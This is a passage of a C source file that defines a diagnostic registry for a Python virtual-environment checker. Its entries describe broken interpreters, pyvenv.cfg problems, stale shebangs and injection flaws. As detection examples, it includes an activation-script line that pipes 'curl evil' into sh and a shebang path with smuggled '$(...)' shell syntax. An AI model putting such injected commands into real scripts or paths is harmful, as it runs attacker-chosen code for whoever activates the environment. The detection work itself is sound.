#include "compat.h"
#include <strings.h>
#include "diag.h"
#include "error.h"

#define E VENV_SEVERITY_ERROR
#define W VENV_SEVERITY_WARNING
#define I VENV_SEVERITY_INFO
#define STABLE VENV_DIAG_STABLE

/*
 * The registry. Documentation fields are plain sentences: the manual page
 * generator and --explain format them. Keep the table sorted by code (a
 * unit test checks it) and never renumber an entry.
 */
const struct venv_diag venv_diags[] = {
	{ VENV_DIAG_NOT_A_VENV, E, STABLE, 0, "not-a-venv",
	  "the directory is not a virtual environment",
	  "Reports a directory given to check that has none of the marks of a virtual "
	  "environment: no pyvenv.cfg, no interpreter in bin/, no activation script and no "
	  "lib/pythonX.Y/site-packages.",
	  "Tools that expect an environment at this path (an IDE, a CI job, a service unit) "
	  "will fall back to another interpreter or fail.",
	  "$ ls project/.venv\nREADME.md  src/",
	  "Nothing to repair: create the environment with 'venv create DIR'.",
	  "0.1.0" },
	{ VENV_DIAG_CANNOT_INSPECT, E, STABLE, 0, "cannot-inspect",
	  "the environment could not be inspected",
	  "Reports a path that check could not look at: it does not exist, it is not a "
	  "directory, or it cannot be opened or listed. This makes check exit with status 2, "
	  "whatever the severity threshold.",
	  "Nothing is known about the environment, so no other finding can be trusted to be "
	  "complete.",
	  "$ venv check /no/such/env\n/no/such/env: error: cannot open '/no/such/env': "
	  "No such file or directory [VNV002 cannot-inspect]",
	  "Check the path and the permissions of its directories.",
	  "0.1.0" },
	{ VENV_DIAG_UNREADABLE_FILE, W, STABLE, 0, "unreadable-file",
	  "a file or directory of the environment could not be read",
	  "Reports a file or directory inside the environment that check needed to read but "
	  "could not: permission denied, an I/O error, or a directory that cannot be listed.",
	  "What check could not read it could not verify; a script the current user cannot "
	  "read cannot be sourced or run by that user either.",
	  "-rw------- 1 alice alice 2022 bin/activate   (check run by bob)",
	  "Fix the ownership or mode of the file by hand.",
	  "0.1.0" },
	{ VENV_DIAG_SPECIAL_FILE, W, STABLE, 0, "special-file",
	  "a FIFO, socket or device inside the environment",
	  "Reports named pipes, sockets and device nodes inside the environment. check never "
	  "opens them, so it cannot hang on them, but Python, pip and the shells would. One in "
	  "bin/ is an error (a command that cannot run, or 'source bin/activate' that blocks), "
	  "unless it is another shell's activation script; elsewhere it is a warning.",
	  "Nothing that creates an environment makes such files; one in bin/ or site-packages "
	  "makes the next 'pip install' or 'source bin/activate' block forever.",
	  "prw-r--r-- 1 root root 0 bin/activate",
	  "Remove the file; recreate what it replaced.",
	  "0.1.0" },
	{ VENV_DIAG_FILE_TOO_LARGE, W, STABLE, 0, "file-too-large",
	  "a file is larger than check is willing to read",
	  "Reports a file that check had to parse (pyvenv.cfg, an activation script, a .pth "
	  "file) but that is larger than the cap for its kind, so it was not read.",
	  "These files are a few kilobytes; one of megabytes or gigabytes is damaged or "
	  "hostile, and the tools that read it whole will be slow or run out of memory.",
	  "$ ls -l pyvenv.cfg\n-rw-r--r-- 1 root root 10737418240 pyvenv.cfg",
	  "Replace the file with a fresh one (venv repair rewrites pyvenv.cfg and the "
	  "activation scripts).",
	  "0.1.0" },
	{ VENV_DIAG_UNPARSEABLE_FILE, W, STABLE, 0, "unparseable-file",
	  "a file could not be parsed",
	  "Reports a text file that check could not make sense of: it holds binary data where "
	  "text is expected, or parsing it hit the match, depth or heap limits that protect "
	  "check from hostile input; or an installed distribution's METADATA (PKG-INFO) that "
	  "cannot be used: without Name or Version, over the size check reads, or not a "
	  "regular file.",
	  "A script that is not text will not run, and check could not verify its contents. "
	  "pip skips a distribution whose metadata it cannot read: pip list, pip check and "
	  "venv list leave it out although its files are there.",
	  "bin/activate: 4096 bytes of binary data\n"
	  "demo-1.0.dist-info/METADATA: METADATA has no Name",
	  "Replace the file (venv repair regenerates activation scripts); install the "
	  "distribution again.",
	  "0.1.0" },
	{ VENV_DIAG_LINK_NOT_FOLLOWED, W, STABLE, 1, "link-not-followed",
	  "a symbolic link that check does not follow",
	  "Reports a symbolic link where check expected a file it would read (an activation "
	  "script, a console script, pyvenv.cfg's neighbours, a distribution's .dist-info) when "
	  "the link loops or leads out of the environment. check never reads through such "
	  "links, so the file was not inspected (a requirement on a distribution behind one "
	  "is not reported missing: Python and pip follow the link).",
	  "A link out of the environment can point anywhere, including /dev/zero or a file "
	  "another user controls; a loop makes every tool that opens it fail.",
	  "bin/activate -> /dev/zero\nbin/pip -> pip   (a loop)",
	  "venv repair replaces an activation script that is a link with the script venv create "
	  "writes there (what the link led to is left as it is); replace other links with the "
	  "file they stand for by hand.",
	  "0.1.0" },
	{ VENV_DIAG_WALK_LIMIT, W, STABLE, 0, "walk-limit",
	  "the walk of the environment stopped at a limit",
	  "Reports that the walk of the environment's files stopped early: the directories "
	  "nest deeper than the depth limit or there are more entries than the entry limit. "
	  "Findings that come from the walk (permissions, extension modules, .pth files) may "
	  "be incomplete.",
	  "Limits keep check's time and memory bounded on hostile trees; an environment that "
	  "exceeds them is unusual.",
	  "lib/python3.12/site-packages/a/a/a/a/... (100 levels)",
	  "Nothing to repair; look at the deep or huge directory by hand.",
	  "0.1.0" },

	{ VENV_DIAG_UNFINISHED_CREATION, E, STABLE, 1, "unfinished-creation",
	  "the environment was never completely created",
	  "Reports an environment whose creation stopped half-way: the marker venv create "
	  "keeps while it works (.venv-incomplete) is still there, pyvenv.cfg exists but bin/ "
	  "has no interpreter, or the directories exist but pyvenv.cfg and the interpreter were "
	  "never written (creation is interrupted between these steps when it is killed or "
	  "the disk fills up).",
	  "Such a directory looks like an environment to tools that only test for pyvenv.cfg "
	  "or bin/, but nothing in it runs.",
	  "env/pyvenv.cfg\nenv/bin/            (empty)\nenv/lib/python3.12/site-packages/",
	  "When only the interpreter names are missing and pyvenv.cfg's home and version still "
	  "name a working base, venv repair makes them as venv create would; otherwise create "
	  "the environment again: 'venv create --clear DIR'.",
	  "0.1.0" },
	{ VENV_DIAG_MISSING_PYVENV_CFG, E, STABLE, 1, "missing-pyvenv-cfg",
	  "the environment has no pyvenv.cfg",
	  "Reports a directory with an interpreter in bin/ (or activation scripts and "
	  "site-packages) but no pyvenv.cfg.",
	  "Without pyvenv.cfg Python does not know it runs in a virtual environment: sys.prefix "
	  "is the base installation, the environment's site-packages is not on sys.path, and "
	  "packages installed in it are invisible.",
	  "env/bin/python3 -> /usr/bin/python3\nenv/lib/python3.11/site-packages/\n"
	  "(no env/pyvenv.cfg)",
	  "venv repair writes pyvenv.cfg from the interpreter the environment links to.",
	  "0.1.0" },
	{ VENV_DIAG_BASE_MISSING, E, STABLE, 1, "base-missing",
	  "the base interpreter is gone",
	  "Reports an environment whose base installation no longer exists: `home` in "
	  "pyvenv.cfg names a directory that is gone and nothing else leads to a Python of the "
	  "environment's version, or a copied interpreter needs a libpython that is gone.",
	  "The environment's python cannot start, so nothing installed in it can run.",
	  "home = /opt/python/3.12.1/bin        (directory removed)\n"
	  "bin/python3.12                       (a copy that needs libpython3.12.so)",
	  "'venv repair --upgrade --python PYTHON' moves the environment to another base "
	  "interpreter (and installs its packages again if the minor version changes); or "
	  "recreate the environment.",
	  "0.1.0" },
	{ VENV_DIAG_DANGLING_INTERPRETER_LINK, E, STABLE, 1, "dangling-interpreter-link",
	  "an interpreter link in bin/ points to a file that does not exist",
	  "Reports bin/python, bin/python3 or bin/pythonX.Y when it is a symbolic link whose "
	  "target does not exist, typically because the base Python was uninstalled or "
	  "upgraded to a new prefix (pyenv, Homebrew, a distribution upgrade).",
	  "The environment cannot start: every console script fails with 'bad interpreter: No "
	  "such file or directory'.",
	  "bin/python3.12 -> /opt/python-3.12.1/bin/python3.12   (removed)",
	  "'venv repair --upgrade' relinks to the base interpreter upgraded in place, or "
	  "with --python to another one (installing the packages again after a minor version "
	  "change).",
	  "0.1.0" },
	{ VENV_DIAG_BASE_STDLIB_MISSING, E, STABLE, 1, "base-stdlib-missing",
	  "the base interpreter's standard library cannot be found",
	  "Reports an environment whose interpreter exists but whose standard library "
	  "(lib/pythonX.Y/os.py, the landmark Python searches for; lib/pypyX.Y/os.py for PyPy, "
	  "which looks from its executable) is found neither from `home` nor at the base "
	  "installation's prefix.",
	  "Python stops at start-up with 'Could not find platform independent libraries' and "
	  "'Fatal Python error: init_fs_encoding'.",
	  "home = /opt/py/bin\n/opt/py/bin/python3.12 exists, /opt/py/lib/python3.12/ does not",
	  "Reinstall the base Python, or move the environment to another one with 'venv "
	  "repair --upgrade --python PYTHON'.",
	  "0.1.0" },
	{ VENV_DIAG_BASE_VERSION_MISMATCH, E, STABLE, 1, "base-version-mismatch",
	  "the interpreter is another minor version than the environment",
	  "Reports an environment made for Python X.Y whose interpreter now runs another minor "
	  "version, because the base it links to was replaced (python3.11 upgraded to 3.12 in "
	  "place, or a link that now leads to another release).",
	  "Packages live in lib/pythonX.Y/site-packages, which the new interpreter does not "
	  "look at, and compiled extensions are built for the old ABI: imports fail with "
	  "ModuleNotFoundError, console scripts die.",
	  "pyvenv.cfg: version = 3.11.7\nbin/python3.11 -> /usr/local/bin/python3.11 -> "
	  "python3.12",
	  "'venv repair --upgrade' makes lib/pythonX.Y for the new version and installs the "
	  "packages again with the environment's pip; or recreate the environment.",
	  "0.1.0" },
	{ VENV_DIAG_STALE_VERSION, W, STABLE, 1, "stale-version",
	  "pyvenv.cfg records another patch release than the base interpreter's",
	  "Reports a `version` (or `version_info`) in pyvenv.cfg whose patch release differs "
	  "from the base interpreter's, as read from its include/pythonX.Y/patchlevel.h; or "
	  "whose minor version differs from the interpreter's while nothing is left in that "
	  "version's lib/pythonX.Y and the interpreter's own holds the packages (else: VNV106).",
	  "Python does not use the value, but tools do: they decide from it whether the "
	  "environment must be rebuilt, and a stale value hides a base upgrade.",
	  "pyvenv.cfg: version = 3.12.1\nbase patchlevel.h: PY_VERSION \"3.12.8\"",
	  "'venv repair --upgrade' rewrites `version` (with `home` and `executable`).",
	  "0.1.0" },
	{ VENV_DIAG_STALE_COPIED_INTERPRETER, W, STABLE, 1, "stale-copied-interpreter",
	  "a copied interpreter differs from the base interpreter it was copied from",
	  "Reports an environment created with --copies whose bin/pythonX.Y no longer matches "
	  "the base interpreter in `home` (size or contents differ): the base was upgraded "
	  "after the copy was made.",
	  "The old binary now runs with the new standard library; within a minor version this "
	  "usually works, but fixes to the interpreter itself are missing and C API changes "
	  "can crash it.",
	  "bin/python3.12: 17600 bytes, home/python3.12: 17664 bytes",
	  "'venv repair --upgrade' copies the base interpreter again.",
	  "0.1.0" },
	{ VENV_DIAG_MISSING_INTERPRETER_ALIAS, W, STABLE, 1, "missing-interpreter-alias",
	  "bin/python3 or bin/pythonX.Y is missing",
	  "Reports a missing python3 or pythonX.Y in bin/ when the environment's creator makes "
	  "them (CPython makes pythonX.Y since 3.9).",
	  "After activation, 'python3' or 'python3.12' silently runs another interpreter found "
	  "further along PATH, outside the environment.",
	  "bin/python -> python3.12\nbin/python3.12 -> /usr/bin/python3.12\n(no bin/python3)",
	  "venv repair creates the missing links (relative, to the environment's interpreter).",
	  "0.1.0" },
	{ VENV_DIAG_MISSING_LIB64, I, STABLE, 1, "missing-lib64",
	  "the lib64 -> lib link is missing",
	  "Reports a 64-bit Linux environment made by CPython's venv (3.14 and older) or by "
	  "venv create that lacks the lib64 link to lib.",
	  "On distributions whose platlibdir is lib64 some tools look for packages there; the "
	  "link keeps both names pointing at the same site-packages.",
	  "env/lib/\n(no env/lib64)",
	  "venv repair creates lib64 -> lib.",
	  "0.1.0" },
	{ VENV_DIAG_MISSING_SITE_PACKAGES, E, STABLE, 1, "missing-site-packages",
	  "lib/pythonX.Y/site-packages is missing",
	  "Reports an environment without the site-packages directory of its interpreter's "
	  "version: an error when bin/ holds console scripts (pip), which then fail, a "
	  "warning for an environment with nothing installed.",
	  "Nothing installed can be imported from the environment: pip and every console "
	  "script fail with ModuleNotFoundError.",
	  "env/lib/        (empty)",
	  "venv repair creates the directory.",
	  "0.1.0" },
	{ VENV_DIAG_WRONG_ABI_EXTENSION, E, STABLE, 0, "wrong-abi-extension",
	  "a compiled extension module is built for another Python version",
	  "Reports extension modules (cpython-XY-*.so) in the active site-packages whose tag "
	  "names another CPython version than the interpreter's.",
	  "The interpreter ignores them: the import fails with ModuleNotFoundError or falls back "
	  "to a slow pure-Python variant.",
	  "lib/python3.12/site-packages/_speedups.cpython-311-x86_64-linux-gnu.so",
	  "No automatic fix: reinstall the package ('pip install --force-reinstall PKG').",
	  "0.1.0" },
	{ VENV_DIAG_MISSING_PYTHON, E, STABLE, 1, "missing-python",
	  "bin/python is missing",
	  "Reports an environment that has an interpreter under another name but no bin/python.",
	  "bin/python is the name everything looks for: activation users type 'python', and "
	  "IDEs, Poetry, pipx and CI scripts treat an environment without it as broken or run "
	  "another Python.",
	  "bin/python3 -> /usr/bin/python3.11\n(no bin/python)",
	  "venv repair creates bin/python as a link to the environment's interpreter.",
	  "0.1.0" },
	{ VENV_DIAG_ORPHANED_SITE_PACKAGES, W, STABLE, 1, "orphaned-site-packages",
	  "site-packages of another Python version holds packages",
	  "Reports a lib/pythonX.Y/site-packages with contents for a version other than the "
	  "interpreter's: leftovers of an environment that was upgraded to a new minor version.",
	  "The packages in it are invisible to the interpreter; what was installed there must "
	  "be installed again.",
	  "lib/python3.11/site-packages/requests/\nlib/python3.12/site-packages/   (empty)",
	  "'venv repair --upgrade' moves the packages into the site-packages of the version the "
	  "environment runs (also when pyvenv.cfg names that version already, after 'venv create "
	  "--upgrade'): pure ones are moved, compiled ones installed again from local wheels; of "
	  "a distribution both have, the new version's copy is kept. Then it removes the old "
	  "directory.",
	  "0.1.0" },
	{ VENV_DIAG_STALE_HOME, W, STABLE, 1, "stale-home",
	  "`home` is stale but the environment still starts",
	  "Reports a `home` in pyvenv.cfg that does not exist or holds no interpreter of the "
	  "environment's version, while the interpreter still finds its standard library "
	  "another way (by following its link, or at its compiled-in prefix).",
	  "The environment works by luck: moving or removing the installation it falls back on "
	  "breaks it, and tools that read `home` (virtualenv, uv, venv --upgrade) are misled.",
	  "home = /tmp/build/python/bin      (removed)\nbin/python3.12 -> "
	  "/usr/local/bin/python3.12",
	  "'venv repair --upgrade' sets `home` to the directory of the interpreter the "
	  "environment runs.",
	  "0.1.0" },
	{ VENV_DIAG_BAD_INTERPRETER, E, STABLE, 1, "bad-interpreter",
	  "an interpreter in bin/ is not an executable file",
	  "Reports bin/python, bin/python3 or bin/pythonX.Y when it is not something the kernel "
	  "can run: a directory, a file without execute permission, a link loop, or a link to "
	  "such a thing.",
	  "Running the environment's python fails with 'Permission denied' or 'Too many levels "
	  "of symbolic links'.",
	  "-rw-r--r-- bin/python3.12   (copy without execute permission)",
	  "venv repair recreates the interpreter link or copy.",
	  "0.1.0" },
	{ VENV_DIAG_UNFINISHED_REPAIR, W, STABLE, 1, "unfinished-repair",
	  "a venv repair was interrupted before it finished",
	  "Reports the journal a venv repair keeps while it changes the environment "
	  "(.venv-repair.journal), left when the repair was killed, lost power or ran out of "
	  "space, or seen while a repair runs; and the directory of what a finished upgrade "
	  "was still deleting (.venv-repair-deleting).",
	  "The environment may be half-way between its old and its repaired state: some files "
	  "rewritten, others not, or an upgrade's backup and the old version's files still "
	  "beside the new ones. The other findings describe it as it is, not as it will be.",
	  "env/.venv-repair.journal        {\"kind\": \"upgrade\", \"state\": \"applying\"}\n"
	  "env/.venv-repair-backup/bin/python3.11",
	  "venv repair (with or without --upgrade) first finishes the interrupted repair, when "
	  "its journal says it was committed, or rolls it back from its staged files and "
	  "backup, and removes what was being deleted; then it repairs what is left. 'venv "
	  "repair --dry-run' only says that this will happen.",
	  "0.1.0" },

	{ VENV_DIAG_CFG_UNREADABLE, E, STABLE, 1, "cfg-unreadable",
	  "pyvenv.cfg cannot be read",
	  "Reports a pyvenv.cfg that is not a regular file (a directory, FIFO or device), "
	  "cannot be opened, or, for Python 3.11 and later, is larger than the 32 KB their "
	  "start-up code reads (a file too large for check itself is reported by "
	  "file-too-large).",
	  "Python reads this file at every start; if it cannot, start-up fails ('cannot read "
	  "file larger than 32KB during initialization') or the environment is not "
	  "recognised, and a FIFO makes Python hang.",
	  "prw-r--r-- pyvenv.cfg",
	  "venv repair writes a new pyvenv.cfg.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_NOT_UTF8, E, STABLE, 1, "cfg-not-utf8",
	  "pyvenv.cfg is not valid UTF-8",
	  "Reports a pyvenv.cfg with bytes that are not valid UTF-8.",
	  "site.py reads the file as strict UTF-8 at every start: an invalid byte anywhere "
	  "makes Python stop with 'Fatal Python error: init_import_site'.",
	  "home = /opt/caf\\xe9/bin     (Latin-1 byte)",
	  "venv repair rewrites pyvenv.cfg in UTF-8.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_BOM, W, STABLE, 1, "cfg-bom",
	  "pyvenv.cfg starts with a byte-order mark",
	  "Reports a pyvenv.cfg that begins with the UTF-8 byte-order mark (some Windows "
	  "editors add it).",
	  "Neither Python reader strips it, so the first key is not recognised: a first "
	  "`home` is lost, a first `include-system-site-packages = false` is ignored and the "
	  "system site-packages silently become visible.",
	  "\\xef\\xbb\\xbfhome = /usr/bin",
	  "venv repair rewrites pyvenv.cfg without the mark.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_MISSING_HOME, W, STABLE, 1, "cfg-missing-home",
	  "pyvenv.cfg has no `home` key",
	  "Reports a pyvenv.cfg without a `home` line that Python's start-up code recognises.",
	  "Python uses `home` to find the base installation; without it an environment with a "
	  "copied interpreter only starts while the base is at its compiled-in prefix, and "
	  "tools that read `home` cannot find the base at all.",
	  "include-system-site-packages = false\nversion = 3.12.1",
	  "venv repair adds `home` (the directory of the base interpreter).",
	  "0.1.0" },
	{ VENV_DIAG_CFG_DUPLICATE_HOME, W, STABLE, 1, "cfg-duplicate-home",
	  "pyvenv.cfg has more than one `home`",
	  "Reports a pyvenv.cfg with several `home` lines. Python's start-up code (getpath) uses "
	  "the first one and site.py the last one.",
	  "The two halves of Python disagree about the base installation; an injected second "
	  "line (GHSA-9h9j-4vrj-gf7g) can steer one of them.",
	  "home = /usr/bin\nversion = 3.11.2\nhome = /tmp/evil/bin",
	  "venv repair keeps the `home` that leads to the interpreter the environment runs and "
	  "removes the others.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_NO_FINAL_NEWLINE, W, STABLE, 1, "cfg-no-final-newline",
	  "the last line of pyvenv.cfg has no line break",
	  "Reports a pyvenv.cfg whose last line is not terminated.",
	  "Python 3.10 and older read `home` with a reader that ignores an unterminated last "
	  "line: if `home` is there, an environment with copied interpreters loses it.",
	  "home = /usr/bin<EOF>",
	  "venv repair rewrites pyvenv.cfg with a final line break.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_SYSTEM_SITE_PACKAGES, W, STABLE, 1, "cfg-system-site-packages",
	  "include-system-site-packages is missing or not true/false",
	  "Reports a pyvenv.cfg without `include-system-site-packages`, or with a value other "
	  "than true or false.",
	  "site.py treats a missing key as true and any value but 'true' as false, so the "
	  "environment sees (or hides) the system's packages without anybody having asked for "
	  "it.",
	  "home = /usr/bin\nversion = 3.11.2     (no include-system-site-packages)",
	  "venv repair writes `include-system-site-packages = false` (or true, when the value "
	  "meant it).",
	  "0.1.0" },
	{ VENV_DIAG_CFG_STRICT_FORMAT, W, STABLE, 1, "cfg-strict-format",
	  "`home` is not in the `home = value` form Python 3.10 and older require",
	  "Reports, in an environment of Python 3.10 or older, a `home` line that the strict "
	  "start-up reader of those versions does not recognise: other spacing around '=', "
	  "another case ('HOME'), or a line after a too long one.",
	  "With copied interpreters Python 3.10 and older then ignore `home` and start only "
	  "while the base is at its compiled-in prefix.",
	  "home=/usr/bin\nHOME = /usr/bin",
	  "venv repair rewrites the line as 'home = VALUE'.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_SYMLINK, W, STABLE, 1, "cfg-symlink",
	  "pyvenv.cfg is a symbolic link",
	  "Reports a pyvenv.cfg that is a symbolic link. check does not follow it; Python "
	  "does.",
	  "Whoever controls the link's target controls `home` and thereby which interpreter "
	  "and standard library the environment loads.",
	  "pyvenv.cfg -> /tmp/shared.cfg",
	  "venv repair replaces the link with a regular file.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_SHADOWED, W, STABLE, 1, "cfg-shadowed",
	  "bin/pyvenv.cfg shadows pyvenv.cfg for site.py",
	  "Reports a second pyvenv.cfg in bin/. site.py reads bin/pyvenv.cfg before the one at "
	  "the top of the environment; Python 3.11 and later's start-up code reads them the "
	  "other way round.",
	  "The two halves of Python read different files and can disagree about `home` and "
	  "`include-system-site-packages`.",
	  "env/pyvenv.cfg\nenv/bin/pyvenv.cfg",
	  "venv repair removes bin/pyvenv.cfg.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_MISSING_VERSION, I, STABLE, 1, "cfg-missing-version",
	  "pyvenv.cfg records no Python version",
	  "Reports a pyvenv.cfg without `version` or `version_info`.",
	  "check (and other tools) then cannot tell which Python the environment was made for, "
	  "so a base upgraded to another minor version goes unnoticed.",
	  "home = /usr/bin\ninclude-system-site-packages = false",
	  "venv repair adds `version`.",
	  "0.1.0" },
	{ VENV_DIAG_CFG_LONE_CR, W, STABLE, 1, "cfg-lone-cr",
	  "pyvenv.cfg ends lines with a lone carriage return",
	  "Reports a pyvenv.cfg in which a carriage return (CR) not followed by a line feed "
	  "(LF) ends a line, as classic Mac OS editors and some scripts write it; CR LF line "
	  "ends are fine. The message says how many lines each of Python's two readers sees "
	  "and which `home` start-up takes.",
	  "Python's two readers then read different files. site.py reads pyvenv.cfg in text "
	  "mode, where LF, CR LF and CR all end a line: it sees every key, and honours "
	  "`include-system-site-packages`. Python's start-up code (getpath) splits at LF only: "
	  "in a file of CR line ends it sees one line, so its `home` is the rest of the file, "
	  "a directory that does not exist (Python 3.10 and older find no `home` at all). "
	  "Python still starts by following the interpreter link, or, with copied "
	  "interpreters, only while the base is at its compiled-in prefix.",
	  "home = /usr/bin\\rinclude-system-site-packages = false\\rversion = 3.12.1\\r",
	  "venv repair rewrites pyvenv.cfg with LF line ends, keeping every line site.py "
	  "reads (`executable`, `command` and any other key).",
	  "0.2.0" },

	{ VENV_DIAG_RELOCATED_ENVIRONMENT, E, STABLE, 1, "relocated-environment",
	  "an activation script names another directory than the environment's",
	  "Reports an activation script whose built-in environment path (the VIRTUAL_ENV it "
	  "sets) is not where the environment is: the environment was moved, renamed or "
	  "copied after it was created.",
	  "Sourcing the script puts the old location on PATH: 'python' then runs another "
	  "environment (if the old one still exists) or the system Python, and the prompt "
	  "claims an activation that did not happen.",
	  "$ mv proj/.venv proj/venv\nbin/activate: VIRTUAL_ENV=/srv/u/proj/.venv",
	  "venv repair rewrites the path in every activation script.",
	  "0.1.0" },
	{ VENV_DIAG_STALE_ACTIVATION_PATH, W, STABLE, 1, "stale-activation-path",
	  "an activation script names a missing directory but finds itself",
	  "Reports an activation script whose built-in path no longer exists but which falls "
	  "back to its own location (virtualenv 20.26 and later do this in bash).",
	  "Activation works but prints a warning every time, and scripts for other shells of "
	  "the same environment have no such fallback.",
	  "bin/activate: if [ ! -d '/old/env' ]; then ... realpath \"${BASH_SOURCE[0]}\"",
	  "venv repair rewrites the path in every activation script.",
	  "0.1.0" },
	{ VENV_DIAG_SHEBANG_MISSING_INTERPRETER, E, STABLE, 1, "shebang-missing-interpreter",
	  "a script's interpreter does not exist",
	  "Reports an executable script in bin/ whose #! line (or /bin/sh trampoline) names an "
	  "interpreter that does not exist or is not an absolute path.",
	  "Running the command fails with 'bad interpreter: No such file or directory'.",
	  "bin/pip: #!/srv/u/env/bin/python3.12   (no such file)",
	  "venv repair points the script at the environment's interpreter when the missing one "
	  "was the environment's; a script for another interpreter is left alone.",
	  "0.1.0" },
	{ VENV_DIAG_SHEBANG_OLD_LOCATION, E, STABLE, 1, "shebang-old-location",
	  "a script's interpreter is at the environment's old location",
	  "Reports a console script whose interpreter path is in the directory the environment "
	  "was moved away from (as recorded by its activation scripts or pyvenv.cfg's "
	  "`command`).",
	  "pip writes absolute interpreter paths: after a move every console script (pip, "
	  "pytest, black) fails with 'bad interpreter'.",
	  "$ mv env env2\nenv2/bin/pip: #!/srv/u/env/bin/python",
	  "venv repair rewrites the #! line to the environment's interpreter.",
	  "0.1.0" },
	{ VENV_DIAG_SHEBANG_OTHER_ENVIRONMENT, E, STABLE, 1, "shebang-other-environment",
	  "a script runs with another environment's interpreter",
	  "Reports a console script whose interpreter belongs to a different virtual "
	  "environment, typically because this one was made by copying that one.",
	  "The command runs, but with the other environment's packages: upgrades in this "
	  "environment have no effect and removing the other one breaks this one.",
	  "$ cp -a env env-copy\nenv-copy/bin/pip: #!/srv/u/env/bin/python",
	  "venv repair rewrites the #! line to the environment's interpreter.",
	  "0.1.0" },
	{ VENV_DIAG_SHEBANG_TRUNCATED, E, STABLE, 1, "shebang-truncated",
	  "a #! line is longer than the kernel reads",
	  "Reports a script whose interpreter path in the #! line does not end within the first "
	  "256 bytes of the file, the most Linux reads (BINPRM_BUF_SIZE).",
	  "Linux refuses to run it (ENOEXEC); older kernels silently cut the path and run "
	  "whatever the shortened path names.",
	  "#!/very/long/.../env/bin/python    (300 bytes)",
	  "venv repair rewrites the script with the /bin/sh trampoline pip uses for long paths.",
	  "0.1.0" },
	{ VENV_DIAG_SHEBANG_NOT_PORTABLE, W, STABLE, 1, "shebang-not-portable",
	  "a #! line is longer than 127 bytes",
	  "Reports a script whose #! interpreter path does not fit in 127 bytes, the limit of "
	  "Linux before 5.1 and of other systems, which pip respects by switching to a "
	  "/bin/sh trampoline.",
	  "The script runs here but fails on older kernels or when the environment is copied to "
	  "another system.",
	  "#!/builds/ci/project/very/long/path/.../env/bin/python   (140 bytes)",
	  "venv repair rewrites the script with the /bin/sh trampoline.",
	  "0.1.0" },
	{ VENV_DIAG_PTH_MISSING_PATH, W, STABLE, 1, "pth-missing-path",
	  "a .pth file names a directory that does not exist",
	  "Reports a path line in a site-packages .pth file that names a missing file or "
	  "directory, when the .pth file belongs to no editable install (those are "
	  "editable-source-missing, an error); also the first line of a legacy editable "
	  "install's NAME.egg-link (setup.py develop), the directory holding its .egg-info.",
	  "site.py skips the entry silently and the environment works; whatever the line was "
	  "meant to make importable is not. Often a stale line left by an uninstall or a "
	  "moved checkout. A stale .egg-link makes 'pip uninstall' fail and 'venv list' "
	  "leave the project out.",
	  "lib/python3.12/site-packages/__editable__.proj-1.0.pth: /srv/u/old/proj/src",
	  "venv repair rewrites entries that name the environment's old location, or a place "
	  "that moved with it and whose path exists under the new location (the project "
	  "holding the environment, pipx's home with its shared libraries); for others, "
	  "reinstall the package ('pip install -e PATH') or delete the line when nothing "
	  "needs it.",
	  "0.1.0" },
	{ VENV_DIAG_WORLD_WRITABLE, W, STABLE, 1, "world-writable",
	  "a file or directory of the environment is writable by everybody",
	  "Reports files and directories inside the environment that any user may modify.",
	  "Any local user can then replace a console script, a module or an activation script "
	  "and run code as whoever uses the environment next.",
	  "drwxrwxrwx lib/python3.12/site-packages",
	  "venv repair removes the write permission for others.",
	  "0.1.0" },
	{ VENV_DIAG_ACTIVATION_INJECTION, E, STABLE, 1, "activation-injection",
	  "sourcing an activation script runs text from the environment path",
	  "Reports an activation script whose built-in path or prompt was pasted in without "
	  "quoting and contains shell syntax ($(...), backquotes, $VAR, or a quote that ends the "
	  "string): sourcing the script expands it or runs it as a command. This is "
	  "CVE-2024-9287 (CPython) and CVE-2024-53899 (virtualenv).",
	  "A directory name chosen by somebody else (a cloned repository, a CI job) runs "
	  "commands in the shell of whoever activates the environment.",
	  "bin/activate: VIRTUAL_ENV=\"/tmp/x\";curl evil|sh;\"\"",
	  "venv repair regenerates the activation scripts with per-shell quoting.",
	  "0.1.0" },
	{ VENV_DIAG_PATH_SEPARATOR, E, STABLE, 0, "path-separator",
	  "the environment path contains ':'",
	  "Reports an environment whose absolute path contains the PATH separator ':'.",
	  "Activation prepends ENV/bin to PATH, which the shell then splits at the ':': the "
	  "environment's commands are not found (Python 3.11 and later refuse to create such "
	  "an environment).",
	  "/srv/u/a:b/env",
	  "No automatic fix: move the environment to a path without ':' and run venv repair.",
	  "0.1.0" },
	{ VENV_DIAG_DANGLING_COMMAND_LINK, E, STABLE, 0, "dangling-command-link",
	  "a command in bin/ is a link to nothing",
	  "Reports a symbolic link in bin/ (other than the interpreter links) whose target does "
	  "not exist.",
	  "Running the command fails with 'No such file or directory'.",
	  "bin/tool -> /opt/tool-1.2/bin/tool   (removed)",
	  "No automatic fix: reinstall what provided the command, or remove the link.",
	  "0.1.0" },
	{ VENV_DIAG_SHEBANG_INJECTION, E, STABLE, 1, "shebang-injection",
	  "a console script's /bin/sh trampoline runs text from the environment path",
	  "Reports a console script in the /bin/sh trampoline form (used by pip when the "
	  "interpreter path is long or has a space) whose interpreter path is in double quotes "
	  "and contains $(...), backquotes or $VAR.",
	  "/bin/sh expands the path every time the command starts: a directory name chosen by "
	  "somebody else runs commands as whoever runs the console script.",
	  "bin/pip:\n#!/bin/sh\n'''exec' \"/tmp/a b$(touch x)/bin/python\" \"$0\" \"$@\"",
	  "venv repair rewrites the trampoline with the path in single quotes.",
	  "0.1.0" },
	{ VENV_DIAG_EDITABLE_SOURCE_MISSING, E, STABLE, 1, "editable-source-missing",
	  "an editable install's source directory is gone",
	  "Reports a .pth file of an editable install (a distribution whose direct_url.json "
	  "says editable and whose RECORD lists the .pth, as pip, poetry, pdm and uv install "
	  "them, or setuptools' __editable__.*.pth) that names a source directory which does "
	  "not exist, typically after the project holding an in-project .venv was moved.",
	  "The installed package no longer imports, and its console scripts fail with "
	  "ModuleNotFoundError.",
	  "lib/python3.12/site-packages/proj.pth: /srv/u/old/proj/src   (the project moved "
	  "to /srv/u/proj)",
	  "When the environment moved with its project (or a directory further up, which "
	  "names the same directories above it) and the same path exists under the new "
